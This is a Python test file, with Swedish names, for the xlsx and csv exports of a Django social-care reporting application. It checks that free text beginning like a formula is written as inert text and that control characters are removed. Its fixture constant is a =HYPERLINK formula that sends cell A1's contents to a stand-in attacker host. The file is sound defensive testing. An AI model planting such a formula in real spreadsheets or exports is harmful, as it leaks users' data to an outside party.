"""Exporterna (xlsx och csv) skriver fritext som text: inget som börjar med = + - @ tab eller CR blir en formel."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kvalitet.export import ofarlig_cell
from tests.factories import InsatsFactory
from tests.lexsarah.factories import RapportFactory
from uppfoljning.models import EjVerkstalltBeslut, Individrapport

FORMEL = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")'


@pytest.mark.parametrize("text", ["=1+1", "+46 8 123", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert ofarlig_cell(text) == "'" + text


@pytest.mark.parametrize("varde", ["Ingen ledig plats.", "2026-02-20", "", -5, 3.5, None])
def test_ordinary_values_are_written_unchanged(varde):
    assert ofarlig_cell(varde) == varde


def test_formula_in_summary_is_inert_in_register_export(cast, org, logga_in):
    r = RapportFactory(enhet=org.e1, rapporterad_av=cast.pia, sammanfattning=FORMEL)
    svar = logga_in(cast.kim).get(reverse("lexsarah:register_export") + f"?ar={r.rapporterad.year}")
    assert svar.status_code == 200
    cell = load_workbook(io.BytesIO(svar.content)).active["C2"]
    assert (cell.value, cell.data_type) == ("'" + FORMEL, "s")


def test_control_characters_in_summary_do_not_break_register_export(cast, org, logga_in):
    r = RapportFactory(enhet=org.e1, rapporterad_av=cast.pia, sammanfattning="Fall\x01 i badrummet\x1b")
    svar = logga_in(cast.kim).get(reverse("lexsarah:register_export") + f"?ar={r.rapporterad.year}")
    assert svar.status_code == 200
    assert load_workbook(io.BytesIO(svar.content)).active["C2"].value == "Fall i badrummet"


def test_formula_in_free_text_is_inert_in_csv_export(cast, org, brukare, logga_in):
    insats = InsatsFactory(brukare=brukare.b1, enhet=org.e1, beslutsdatum=datetime.date(2025, 1, 10))
    beslut = EjVerkstalltBeslut.objects.create(
        insats=insats,
        fran=insats.beslutsdatum,
        brukare=brukare.b1,
        namnd=org.n1,
        lag=insats.lag,
        pseudonym="19500517-A123",
        orsak=FORMEL,
    )
    Individrapport.objects.create(
        beslut=beslut, ar=2025, kvartal=2, data={"pseudonym": beslut.pseudonym, "orsak": FORMEL}
    )
    svar = logga_in(cast.kim).get(reverse("uppfoljning:individrapporter_export"), {"ar": 2025, "kvartal": 2})
    assert svar.status_code == 200
    rader = list(csv.DictReader(io.StringIO(svar.content.decode("utf-8-sig")), delimiter=";"))
    assert [r["orsak"] for r in rader] == ["'" + FORMEL]
